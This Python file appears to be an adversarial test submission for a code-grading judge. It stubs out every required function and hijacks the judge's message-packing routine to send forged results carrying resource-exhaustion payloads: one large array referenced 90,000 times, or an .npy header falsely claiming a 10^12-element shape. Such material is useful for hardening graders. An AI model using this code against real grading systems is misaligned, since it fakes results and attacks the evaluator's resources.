"""Answer every call with one array blob referenced 90 000 times (decoded separately, each
reference would be a fresh copy of the largest array allowed), or with an `.npy` header that
claims a shape of 10^12 float64 over a few bytes of data.

category: resource
"""
import io
import json
import struct
import sys

import numpy as np

API = "__API__".split(",")
_P = sys.modules["judge_protocol"]
_PACK = _P.pack
_LIMITS = _P.Limits()
_calls = []


def _blob() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(max(1, _LIMITS.max_array_bytes // 8 - 1024)))
    return buffer.getvalue()


def _liar() -> bytes:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }"
    header = header + " " * (117 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"\0" * 64


def _repeat(message, blobs=()):
    if message.get("op") not in ("value", "raised", "missing"):
        return _PACK(message, blobs)
    _calls.append(1)
    blob = _blob() if len(_calls) % 2 else _liar()
    node = {"t": "list", "v": [{"t": "ndarray", "b": 0}] * 90_000} if len(_calls) % 2 else {"t": "ndarray", "b": 0}
    forged = {"op": "value", "id": message.get("id"), "value": node,
              "args_after": {"t": "list", "v": []}, "warnings": []}
    header = json.dumps({"m": forged, "sizes": [len(blob)]}).encode()
    return struct.pack("!4sQI", b"GRJ1", 4 + len(header) + len(blob), len(header)) + header + blob


def _student(*args, **kwargs):
    return np.zeros(1)


for _name in API:
    globals()[_name] = _student
_P.pack = _repeat
